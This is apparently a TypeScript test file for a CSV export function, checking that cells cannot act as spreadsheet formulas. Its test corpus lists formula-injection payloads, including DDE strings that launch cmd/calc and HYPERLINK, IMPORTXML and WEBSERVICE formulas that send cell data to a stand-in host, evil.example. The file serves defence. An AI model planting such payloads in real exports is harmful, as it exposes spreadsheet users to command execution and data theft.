import fc from 'fast-check';
import { csvCell, csvRows } from './csv';

const commands = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/c calc";"x")',
  '+1+1',
  "+cmd|'/c calc'!A0",
  '-1+1',
  "-2+3+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '@A1',
];
const fronts = ['', '\t', '\r', '\n', '\0', ' ', '\u00A0', '\uFEFF', '\u200E', '\r\n', '\t\t', ' \t'];
const corpus = [
  ...fronts.flatMap((front) => commands.map((command) => front + command)),
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\t',
  '\r',
  '\0',
  '=',
  '-',
  '"=1+1"'.slice(1),
];

/** A reader of RFC 4180, as a spreadsheet has one. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at]!;
    if (quoted) {
      if (sign !== '"') cell += sign;
      else if (text[at + 1] === '"') cell += text[(at += 1)]!;
      else quoted = false;
    } else if (sign === '"') quoted = true;
    else if (sign === ',') cell = push(rows, cell);
    else if (sign === '\r' && text[at + 1] === '\n') {
      cell = push(rows, cell);
      rows.push([]);
      at += 1;
    } else cell += sign;
  }
  rows.pop();
  return rows;
}
function push(rows: string[][], cell: string): string {
  rows.at(-1)!.push(cell);
  return '';
}

describe('F116: cells of a CSV file are text to a spreadsheet', () => {
  it('F116: the corpus is long enough to mean something', () => {
    expect(new Set(corpus).size).toBeGreaterThanOrEqual(60);
  });

  it.each(corpus.map((text) => [JSON.stringify(text), text]))('F116: %s is not calculated', (_name, text) => {
    const [row] = readCsv(csvRows([['before', text, 'after']]));
    expect(row).toHaveLength(3);
    expect(row![1]).toMatch(/^'/);
    // What was written is still all there, but for signs no cell can hold.
    expect(row![1]!.slice(1)).toBe(text.replace(/[^\P{Cc}\n\t\r]/gu, ''));
  });

  it.each([
    ['Acme GmbH', 'Acme GmbH'],
    ['a, "b"\nc', '"a, ""b""\nc"'],
    ['a;b', '"a;b"'],
    ['1-2', '1-2'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('F116: %j stays %j', (text, cell) => expect(csvCell(text)).toBe(cell));

  it('F116: numbers, yes and no, and nothing are no text', () => {
    expect(csvRows([[-5, true, null, 0]])).toBe('-5,true,,0\r\n');
  });

  it('F116: whatever is written comes back as the same table, and never as a formula', () => {
    const cell = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n\0", ;\'ax1\u200E＝') });
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
        (rows) => {
          const read = readCsv(csvRows(rows));
          expect(read.map(({ length }) => length)).toEqual(rows.map(({ length }) => length));
          for (const text of read.flat()) expect(text).not.toMatch(/^[=+\-@\t\r\n]/);
        },
      ),
    );
  });
});
